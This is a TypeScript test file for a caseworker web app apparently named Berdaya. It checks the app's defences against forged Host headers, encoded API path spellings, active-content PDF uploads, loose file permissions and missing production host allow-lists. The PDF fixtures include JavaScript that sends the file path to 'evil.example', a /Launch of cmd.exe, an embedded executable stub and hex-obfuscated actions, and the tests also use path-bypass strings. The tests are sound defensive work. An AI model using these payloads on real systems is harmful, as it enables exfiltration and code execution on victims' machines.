// The small doors, tried as an attacker would: a forged Host (DNS rebinding) over a real socket, API paths
// spelled so that a prefix check misses them, PDFs that run something when opened, data files others can
// read, browser features nobody switched off, and a production server started without its host allow-list.
import { HOME_OFFICE } from '../../src/server/documents/offices.ts';
import fs from 'node:fs';
import net from 'node:net';
import path from 'node:path';
import zlib from 'node:zlib';
import { type ChildProcess, spawn } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import pg from 'pg';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  type Client,
  DIALECTS,
  json,
  makeEnv,
  ORIGIN,
  PG_URL,
  pgUrlFor,
  seedUser,
  signIn,
  tmpDir,
  type TestEnv,
  type TestUser,
} from '../support/env.ts';
import { multipart, participantBody } from '../support/participants.ts';
import { loadConfig } from '../../src/server/env.ts';
import { boot } from '../../src/server/boot.ts';
import { renderLetter } from '../../src/server/documents/pdf.ts';
import { buildApp } from '../../src/server/http/app.ts';

const ROOT = path.resolve('.');

interface RawResponse {
  status: number;
  headers: Record<string, string>;
  body: string;
}

/**
 * One HTTP/1.1 request written byte for byte on a socket: the request line and Host exactly as given (a URL
 * library would normalise the path; fetch would not let a Host be forged).
 */
function raw(port: number, request: string, body = ''): Promise<RawResponse> {
  return new Promise((resolve, reject) => {
    const socket = net.connect(port, '127.0.0.1');
    const chunks: Buffer[] = [];
    socket.on('data', (d) => chunks.push(d));
    socket.on('error', reject);
    socket.on('end', () => {
      const text = Buffer.concat(chunks).toString('utf8');
      const split = text.indexOf('\r\n\r\n');
      const [statusLine, ...headerLines] = text.slice(0, split).split('\r\n');
      const headers: Record<string, string> = {};
      for (const line of headerLines) {
        const i = line.indexOf(':');
        headers[line.slice(0, i).toLowerCase()] = line.slice(i + 1).trim();
      }
      let rest = text.slice(split + 4);
      if (headers['transfer-encoding'] === 'chunked') {
        let out = '';
        for (;;) {
          const eol = rest.indexOf('\r\n');
          const size = Number.parseInt(rest.slice(0, eol), 16);
          if (!size) break;
          out += rest.slice(eol + 2, eol + 2 + size);
          rest = rest.slice(eol + 2 + size + 2);
        }
        rest = out;
      }
      resolve({ status: Number(statusLine!.split(' ')[1]), headers, body: rest });
    });
    socket.write(`${request}Connection: close\r\n\r\n${body}`);
  });
}

const get = (port: number, target: string, host: string, extra = '') =>
  raw(port, `GET ${target} HTTP/1.1\r\nHost: ${host}\r\n${extra}`);
const errorCode = (r: RawResponse) => (JSON.parse(r.body) as { error: { code: string } }).error.code;

// ---- PDFs, written by hand so that each holds exactly what the case needs

function pdf(objects: (string | Buffer)[]): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  objects.forEach((o, i) => {
    parts.push(Buffer.from(`${i + 1} 0 obj\n`), Buffer.from(o), Buffer.from('\nendobj\n'));
  });
  parts.push(Buffer.from('trailer\n<</Root 1 0 R>>\n%%EOF\n'));
  return Buffer.concat(parts);
}
const stream = (dict: string, data: Buffer) =>
  Buffer.concat([Buffer.from(`<<${dict}/Length ${data.length}>>\nstream\n`), data, Buffer.from('\nendstream')]);
const PAGES = ['<</Type/Pages/Kids[3 0 R]/Count 1>>', '<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>'];
const SCRIPT = '<</S/JavaScript/JS(app.launchURL("https://evil.example/?"+this.path))>>';
const ACTIVE_PDFS: Record<string, Buffer> = {
  'an /OpenAction running /JavaScript': pdf([`<</Type/Catalog/Pages 2 0 R/OpenAction${SCRIPT}>>`, ...PAGES]),
  'the same with its names spelled in #hex': pdf([
    '<</Type/Catalog/Pages 2 0 R/Open#41ction<</S/J#61vaScript/J#53(app.alert(1))>>>>',
    ...PAGES,
  ]),
  'a page action (/AA) that launches a program': pdf([
    '<</Type/Catalog/Pages 2 0 R>>',
    PAGES[0]!,
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/AA<</O<</S/Launch/F(cmd.exe)>>>>>>',
  ]),
  'an embedded file': pdf([
    '<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[(a.exe) 4 0 R]>>>>>>',
    ...PAGES,
    '<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>',
    stream('/Type/EmbeddedFile', Buffer.from('MZ\x90\x00')),
  ]),
  'JavaScript inside a compressed object stream': pdf([
    '<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R>>',
    ...PAGES,
    stream('/Type/ObjStm/N 1/First 4/Filter/FlateDecode', zlib.deflateSync(Buffer.from(`5 0 ${SCRIPT}`))),
  ]),
  'an object stream this check cannot read (ASCIIHex)': pdf([
    '<</Type/Catalog/Pages 2 0 R>>',
    ...PAGES,
    stream('/Type/ObjStm/N 1/First 4/Filter/ASCIIHexDecode', Buffer.from(Buffer.from(`5 0 ${SCRIPT}`).toString('hex'))),
  ]),
};

describe.each(DIALECTS)('the small doors on %s', (dialect) => {
  let env: TestEnv;
  let cw: TestUser;
  let c: Client;
  let port: number;
  beforeAll(async () => {
    env = await makeEnv(dialect);
    cw = await seedUser(env, 'caseworker', ['6372']);
    c = await signIn(env, cw);
    await env.app.listen({ host: '127.0.0.1', port: 0 });
    port = (env.app.server.address() as net.AddressInfo).port;
  });
  afterAll(async () => {
    await env?.close();
  });
  const participants = async () =>
    Number(
      (
        await env.booted.services.db.kysely
          .selectFrom('participants')
          .select((eb) => eb.fn.countAll().as('n'))
          .executeTakeFirstOrThrow()
      ).n,
    );

  it('refuses a forged Host over a real socket (421), before the session and CSRF checks, even with a matching Origin and a valid cookie', async () => {
    const post = (host: string, origin: string) => {
      const body = JSON.stringify(participantBody());
      return raw(
        port,
        `POST /api/participants HTTP/1.1\r\nHost: ${host}\r\nOrigin: ${origin}\r\nCookie: ${c.cookie}\r\n` +
          `Content-Type: application/json\r\nContent-Length: ${Buffer.byteLength(body)}\r\n`,
        body,
      );
    };
    const before = await participants();

    // A page on evil.example whose name now resolves to this server: its own Host, its own Origin.
    for (const host of [
      'evil.example',
      `evil.example:${port}`,
      'berdaya.test.evil.example',
      'berdaya.test@evil.example',
    ]) {
      const forged = await post(host, `http://${host}`);
      expect(forged.status, host).toBe(421);
      expect(errorCode(forged)).toBe('host_not_allowed');
      expect(forged.headers['cache-control']).toBe('no-store');
      // A matching Origin does not help, and neither does the app's own.
      expect((await post(host, ORIGIN)).status, host).toBe(421);
    }
    const read = await get(port, '/api/auth/me', 'evil.example', `Cookie: ${c.cookie}\r\n`);
    expect(read.status).toBe(421);
    expect(read.body).not.toContain(cw.username);
    // HTTP/1.0 without any Host at all.
    expect((await raw(port, 'GET /api/health HTTP/1.0\r\n')).status).toBe(421);
    expect(await participants()).toBe(before);

    // The allowed names pass: the loopback address the socket reached, and the test suite's own name.
    expect((await post(`127.0.0.1:${port}`, `http://127.0.0.1:${port}`)).status).toBe(201);
    expect((await post('berdaya.test', ORIGIN)).status).toBe(201);
    expect(await participants()).toBe(before + 2);
  });

  it('checks the Origin against the allowed hosts: a configured list, and a cross-origin write among allowed names', async () => {
    const configured = await makeEnv(dialect, { BERDAYA_ALLOWED_HOSTS: 'berdaya.dinsos.example, 10.0.0.5:3000' });
    try {
      const inject = (host: string, origin?: string) =>
        configured.app.inject({
          method: 'POST',
          url: '/api/auth/login',
          headers: { host, ...(origin ? { origin } : {}), 'content-type': 'application/json' },
          payload: JSON.stringify({ username: 'nobody.here', password: 'not-the-password-1' }),
        });
      // Configured: the development names are no longer answered.
      for (const host of ['berdaya.test', 'localhost', '127.0.0.1:3000', '10.0.0.5:3001', 'evil.example'])
        expect((await inject(host, `http://${host}`)).statusCode, host).toBe(421);
      // An allowed host with its own Origin reaches the handler (401: wrong password), another Origin does not.
      expect((await inject('berdaya.dinsos.example', 'http://berdaya.dinsos.example')).statusCode).toBe(401);
      expect((await inject('10.0.0.5:3000', 'http://10.0.0.5:3000')).statusCode).toBe(401);
      const cross = await inject('berdaya.dinsos.example', 'http://10.0.0.5:3000');
      expect(cross.statusCode).toBe(403);
      expect(json(cross).error.code).toBe('csrf_rejected');
      expect((await inject('berdaya.dinsos.example', 'http://evil.example')).statusCode).toBe(403);
    } finally {
      await configured.close();
    }
    // Without BERDAYA_PUBLIC_URL (this file's env): a foreign Origin on an allowed Host is refused as before.
    const evil = await c.post('/api/auth/logout', {}, { origin: 'http://evil.example' });
    expect(evil.statusCode).toBe(403);
    expect(json(evil).error.code).toBe('csrf_rejected');
  });

  const SPELLINGS = [
    '/%61pi/auth/me',
    '/%2561pi/auth/me',
    '/api/auth/m%65',
    '/API/auth/me',
    '/Api/participants',
    '//api/auth/me',
    '/api//auth/me',
    '/api/./auth/me',
    '/api/%2e/auth/me',
    '/api/%2E%2E/api/auth/me',
    '/api/auth/../auth/me',
    '/static/../api/auth/me',
    '/api%2fauth%2fme',
    '/api/auth/me;x',
    '/%61pi/participants',
    '/%61pi/audit',
  ];

  it('never lets an API path spelled otherwise reach a handler without a session: 401 or 404, never 500, always no-store', async () => {
    for (const target of SPELLINGS) {
      const res = await get(port, target, 'berdaya.test');
      expect([401, 404], `${target}: ${res.status} ${res.body}`).toContain(res.status);
      expect(res.headers['cache-control'], target).toBe('no-store');
      expect(['unauthenticated', 'not_found'], target).toContain(errorCode(res));
      expect(res.headers['content-type'], target).toContain('application/json');
    }
    // A write by such a path, with the app's Origin and no session, changes nothing.
    const before = await participants();
    const body = JSON.stringify(participantBody());
    const write = await raw(
      port,
      `POST /%61pi/participants HTTP/1.1\r\nHost: berdaya.test\r\nOrigin: ${ORIGIN}\r\n` +
        `Content-Type: application/json\r\nContent-Length: ${Buffer.byteLength(body)}\r\n`,
      body,
    );
    expect(write.status).toBe(401);
    expect(await participants()).toBe(before);
  });

  it('applies the matched route’s own level to such a path: a signed-in caseworker reads it, a pending password change stops it', async () => {
    const me = await get(port, '/%61pi/auth/me', 'berdaya.test', `Cookie: ${c.cookie}\r\n`);
    expect(me.status).toBe(200);
    expect(me.headers['cache-control']).toBe('no-store');
    expect(JSON.parse(me.body).user.username).toBe(cw.username);

    const pending = await seedUser(env, 'caseworker', ['6372']);
    const p = await signIn(env, pending);
    await env.booted.services.db.kysely
      .updateTable('users')
      .set({ must_change_password: 1 })
      .where('id', '=', pending.id)
      .execute();
    for (const target of ['/api/work-queue/counts', '/%61pi/work-queue/counts', '/api/%77ork-queue/counts']) {
      const res = await get(port, target, 'berdaya.test', `Cookie: ${p.cookie}\r\n`);
      expect(res.status, target).toBe(403);
      expect(errorCode(res)).toBe('password_change_required');
    }
  });

  it('refuses an uploaded PDF with active content (415 pdf_active_content) and keeps a clean one', async () => {
    const created = await c.post('/api/participants', participantBody());
    expect(created.statusCode).toBe(201);
    const id = json(created).id as string;
    const upload = (name: string, data: Buffer) => {
      const m = multipart('DOCUMENT', name, data, 'application/pdf');
      return env.app.inject({
        method: 'POST',
        url: `/api/participants/${id}/attachments`,
        payload: m.payload,
        headers: { host: 'berdaya.test', origin: ORIGIN, cookie: c.cookie!, 'content-type': m.contentType },
      });
    };
    for (const [what, file] of Object.entries(ACTIVE_PDFS)) {
      const res = await upload('surat.pdf', file);
      expect(res.statusCode, what).toBe(415);
      expect(json(res).error.code, what).toBe('pdf_active_content');
      expect(res.headers['cache-control']).toBe('no-store');
    }
    expect(json(await upload('x.pdf', ACTIVE_PDFS['an /OpenAction running /JavaScript']!)).error.details.found).toEqual(
      ['JS', 'JavaScript', 'OpenAction'],
    );
    expect(json(await c.get(`/api/participants/${id}/attachments`)).items).toHaveLength(0);

    // A real letter (fonts and compressed page content), and a file that opens at its first page (as office
    // suites write /OpenAction [page /XYZ …]), are accepted and stored as they are.
    const letter = await renderLetter({
      office: HOME_OFFICE,
      number: '400/123/Dinsos',
      title: 'Surat Keterangan',
      date: new Date('2026-03-02T01:00:00Z'),
      body: [{ text: 'Yang bertanda tangan di bawah ini menerangkan …' }],
      signatories: [{ role: 'Kepala Seksi', name: 'Rina' }],
      footer: 'dicetak untuk uji',
    });
    const openAtPage = pdf(['<</Type/Catalog/Pages 2 0 R/OpenAction[3 0 R /XYZ null null 0]>>', ...PAGES]);
    for (const file of [letter, openAtPage]) {
      const res = await upload('surat.pdf', file);
      expect(res.statusCode, res.body).toBe(201);
      const dl = await c.get(`/api/participants/${id}/attachments/${json(res).id}/content`);
      expect(dl.rawPayload.equals(file)).toBe(true);
    }
    expect(json(await c.get(`/api/participants/${id}/attachments`)).items).toHaveLength(2);
  });

  it('serves the web app’s files and pages without a session, and an API path spelled otherwise never as the page', async () => {
    // A built web app of two files, served by a second app over the same services on a real socket.
    const webDir = tmpDir('berdaya-web-');
    fs.mkdirSync(path.join(webDir, 'assets'));
    fs.writeFileSync(path.join(webDir, 'index.html'), '<!doctype html><title>Berdaya</title>');
    fs.writeFileSync(path.join(webDir, 'assets', 'app-1a2b.js'), 'console.log(1)');
    const web = await buildApp(env.booted.services, { webDir });
    try {
      await web.app.listen({ host: '127.0.0.1', port: 0 });
      const webPort = (web.app.server.address() as net.AddressInfo).port;
      for (const target of ['/sign-in', '/participants/123', '/index.html', '/assets/app-1a2b.js']) {
        const res = await get(webPort, target, 'berdaya.test');
        expect(res.status, target).toBe(200);
        expect(res.headers['cache-control'], target).not.toBe('no-store');
        expect(res.headers['permissions-policy'], target).toContain('camera=()');
      }
      for (const target of SPELLINGS) {
        const res = await get(webPort, target, 'berdaya.test');
        expect([401, 404], `${target}: ${res.status}`).toContain(res.status);
        expect(res.body, target).not.toContain('<title>Berdaya');
        expect(res.headers['cache-control'], target).toBe('no-store');
      }
      expect((await get(webPort, '/sign-in', 'evil.example')).status).toBe(421);
    } finally {
      await web.app.close();
      fs.rmSync(webDir, { recursive: true, force: true });
    }
  });

  it('sends Permissions-Policy on every answer: API, errors, the refused host, and the web app', async () => {
    const answers = [
      await get(port, '/api/health', 'berdaya.test'),
      await get(port, '/api/auth/me', 'berdaya.test'),
      await get(port, '/api/nothing-here', 'berdaya.test'),
      await get(port, '/sign-in', 'berdaya.test'),
      await get(port, '/api/health', 'evil.example'),
    ];
    expect(answers.map((r) => r.status)).toEqual([200, 401, 404, 503, 421]);
    for (const r of answers) {
      const policy = r.headers['permissions-policy'] ?? '';
      for (const feature of ['camera', 'microphone', 'geolocation', 'payment', 'usb', 'serial', 'hid'])
        expect(policy, `${r.status}`).toContain(`${feature}=()`);
    }
  });

  it.runIf(dialect === 'sqlite')(
    'creates the data folder 0700 and its files 0600, and fixes ones left readable by others at start',
    async () => {
      // A folder an operator made by hand (0755) with an old backup (0644) and an old database left 0644.
      const dataDir = path.join(tmpDir('berdaya-modes-'), 'data');
      fs.mkdirSync(dataDir, { mode: 0o755 });
      fs.chmodSync(dataDir, 0o755);
      fs.writeFileSync(path.join(dataDir, 'old.backup'), 'sealed', { mode: 0o644 });
      fs.chmodSync(path.join(dataDir, 'old.backup'), 0o644);
      const first = await boot(loadConfig({ BERDAYA_DATA_DIR: dataDir, LOG_LEVEL: 'silent' }));
      await first.close();
      for (const f of ['berdaya.sqlite', 'master.key']) fs.chmodSync(path.join(dataDir, f), 0o644);
      fs.chmodSync(dataDir, 0o755);

      // Started again, as the server and the CLI start (no umask of ours in this process): a write makes the WAL.
      const again = await boot(loadConfig({ BERDAYA_DATA_DIR: dataDir, LOG_LEVEL: 'silent' }));
      try {
        await again.services.audit.record({
          action: 'auth.session_expired',
          actorId: null,
          actor: null,
          outcome: 'success',
          resourceType: 'session',
          ip: '10.0.0.9',
          requestId: randomBytes(8).toString('hex'),
        });
        const modeOf = (f: string) => fs.statSync(path.join(dataDir, f)).mode & 0o777;
        expect(modeOf('.')).toBe(0o700);
        const files = fs.readdirSync(dataDir);
        expect(files).toEqual(
          expect.arrayContaining(['berdaya.sqlite', 'berdaya.sqlite-wal', 'berdaya.sqlite-shm', 'master.key']),
        );
        for (const f of files) expect([f, modeOf(f)]).toEqual([f, 0o600]);
      } finally {
        await again.close();
        fs.rmSync(path.dirname(dataDir), { recursive: true, force: true });
      }
    },
  );

  it('refuses to start in production without the host allow-list, and with one answers only to it', async () => {
    const children: ChildProcess[] = [];
    const start = (extra: Record<string, string>) => {
      const child = spawn(process.execPath, ['--import', 'tsx', path.join(ROOT, 'src/server/main.ts')], {
        env: {
          PATH: process.env.PATH!,
          TMPDIR: process.env.TMPDIR ?? '/tmp',
          HOST: '127.0.0.1',
          PORT: '0',
          LOG_LEVEL: 'silent',
          NODE_ENV: 'production',
          ...extra,
        },
        cwd: ROOT,
      });
      children.push(child);
      let out = '';
      child.stdout!.on('data', (d) => (out += d));
      child.stderr!.on('data', (d) => (out += d));
      const exited = new Promise<{ code: number | null; out: string }>((resolve) =>
        child.once('exit', (code) => resolve({ code, out })),
      );
      const running = new Promise<number>((resolve, reject) => {
        const timer = setInterval(() => {
          const m = /running at http:\/\/[^:\s]+:(\d+)/.exec(out);
          if (m) {
            clearInterval(timer);
            resolve(Number(m[1]));
          }
        }, 50);
        void exited.then((e) => {
          clearInterval(timer);
          reject(new Error(`server exited: ${e.out}`));
        });
      });
      running.catch(() => {}); // awaited only where the server is expected to start
      return { child, exited, running };
    };
    const schema = `t_doors_${randomBytes(4).toString('hex')}`;
    const base: Record<string, string> = {
      BERDAYA_DATA_DIR: path.join(tmpDir('berdaya-prod-'), 'data'),
      BERDAYA_MASTER_KEY: randomBytes(32).toString('base64'),
    };
    if (dialect === 'postgres') {
      const pc = new pg.Client({ connectionString: PG_URL });
      await pc.connect();
      await pc.query(`CREATE SCHEMA ${schema}`);
      await pc.end();
      base.DATABASE_URL = pgUrlFor(schema);
    }
    try {
      const refused = start(base);
      const end = await refused.exited;
      expect(end.code).toBe(2);
      expect(end.out).toContain('BERDAYA_ALLOWED_HOSTS');
      expect(end.out).toContain('BERDAYA_PUBLIC_URL');
      expect(end.out).not.toContain('running at');
      expect(fs.existsSync(base.BERDAYA_DATA_DIR!)).toBe(false); // stopped before it created anything

      const served = start({ ...base, BERDAYA_ALLOWED_HOSTS: 'berdaya.dinsos.example' });
      const p = await served.running;
      const ok = await get(p, '/api/health', 'berdaya.dinsos.example');
      expect(ok.status).toBe(200);
      expect(ok.headers['permissions-policy']).toContain('camera=()');
      // In production the development names are not answered either.
      expect((await get(p, '/api/health', `127.0.0.1:${p}`)).status).toBe(421);
      expect((await get(p, '/api/health', 'berdaya.test')).status).toBe(421);
      if (dialect === 'sqlite') {
        // The real data folder of a running server: the folder 0700, every file in it 0600.
        const dir = base.BERDAYA_DATA_DIR!;
        expect(fs.statSync(dir).mode & 0o777).toBe(0o700);
        const files = fs.readdirSync(dir);
        expect(files).toEqual(expect.arrayContaining(['berdaya.sqlite', 'berdaya.sqlite-wal', 'berdaya.lock']));
        for (const f of files) expect([f, fs.statSync(path.join(dir, f)).mode & 0o777]).toEqual([f, 0o600]);
      }
      served.child.kill('SIGTERM');
      expect((await served.exited).code).toBe(0);
    } finally {
      for (const child of children) if (child.exitCode === null && child.signalCode === null) child.kill('SIGKILL');
      fs.rmSync(path.dirname(base.BERDAYA_DATA_DIR!), { recursive: true, force: true });
      if (dialect === 'postgres') {
        const pc = new pg.Client({ connectionString: PG_URL });
        await pc.connect();
        await pc.query(`DROP SCHEMA IF EXISTS ${schema} CASCADE`);
        await pc.end();
      }
    }
  });
});
